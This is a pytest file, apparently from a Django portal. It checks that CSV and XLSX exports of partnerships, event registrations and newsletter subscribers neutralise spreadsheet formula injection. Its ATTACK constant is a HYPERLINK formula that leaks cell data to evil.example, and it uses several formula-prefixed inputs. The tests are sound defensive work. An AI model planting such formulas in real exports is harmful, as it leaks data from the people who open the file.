"""Every CSV and Excel export writes what a person typed as text, never as a formula."""

import io

import pytest
from django.contrib import admin
from django.test import RequestFactory
from openpyxl import load_workbook

from events.models import Event
from newsletter.models import Newsletter
from partnerships.importexport import export_csv
from partnerships.models import Partnership
from portal.exports import safe_cell
from tests.events.factories import EventFactory, RegistrationFactory
from tests.factories import UserFactory
from tests.newsletter.factories import SubscriberFactory, SubscriptionFactory
from tests.partnerships.factories import PartnershipFactory

ATTACK = '=HYPERLINK("https://evil.example/?x="&A1;"Klick")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+49 211 1234", "'+49 211 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-7.5", "-7.5"),  # a plain number stays a number
        ("Stadt Billerbeck", "Stadt Billerbeck"),
        (42, 42),
        (None, None),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


@pytest.mark.django_db
def test_public_open_data_csv(client):
    PartnershipFactory(title=ATTACK)
    body = client.get("/api/partnerships.csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK" in body and ',"=HYPERLINK' not in body


@pytest.mark.django_db
def test_admin_partnership_export():
    PartnershipFactory(title=ATTACK, summary="@cmd")
    body = export_csv(Partnership.objects.all())
    assert "'=HYPERLINK" in body and "'@cmd" in body


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_admin_event_registration_export(fmt):
    event = EventFactory()
    RegistrationFactory(event=event, name=ATTACK, question="+1 Frage")
    response = admin.site._registry[Event]._export(Event.objects.filter(pk=event.pk), fmt)
    if fmt == "csv":
        cells = response.content.decode("utf-8-sig")
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = " ".join(str(c.value) for row in sheet.iter_rows() for c in row)
    assert "'=HYPERLINK" in cells and "'+1 Frage" in cells


@pytest.mark.django_db
def test_admin_newsletter_export():
    subscription = SubscriptionFactory(subscriber=SubscriberFactory(email="=1+1@example.org"))
    request = RequestFactory().get("/")
    request.user = UserFactory(is_staff=True, is_superuser=True)
    model_admin = admin.site._registry[Newsletter]
    response = model_admin.export_view(request, subscription.newsletter_id)
    body = b"".join(response.streaming_content).decode()
    assert "'=1+1@example.org" in body
